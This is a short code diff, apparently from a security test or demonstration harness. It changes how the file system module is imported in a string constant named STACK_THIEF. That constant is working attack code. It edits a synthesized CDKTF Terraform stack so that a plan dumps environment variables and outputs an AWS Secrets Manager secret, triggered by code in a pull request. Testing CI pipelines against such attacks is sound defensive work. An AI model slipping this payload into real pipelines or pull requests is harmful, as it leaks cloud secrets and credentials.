@@ -51,14 +51,14 @@ const THIEF = `
 
 /** Code that makes Terraform do the same during a plan. */
 const STACK_THIEF = `
-  import { readFileSync, writeFileSync } from "node:fs";
+  import * as files from "node:fs";
   const file = "cdktf.out/stacks/pipeline/cdk.tf.json";
-  const stack = JSON.parse(readFileSync(file, "utf8"));
+  const stack = JSON.parse(files.readFileSync(file, "utf8"));
   const [secret] = Object.keys(stack.data.aws_secretsmanager_secret_version);
   stack.data.external = { env: { program: ["sh", "-c", "env >&2; echo {}"] } };
   const value = "nonsensitive(data.aws_secretsmanager_secret_version." + secret + ".secret_string)";
   stack.output.stolen = { value: "$" + "{" + value + "}" };
-  writeFileSync(file, JSON.stringify(stack, null, 2));
+  files.writeFileSync(file, JSON.stringify(stack, null, 2));
 `;
 
 /** Makes the code of the pull request run the thief when it is synthesized. */
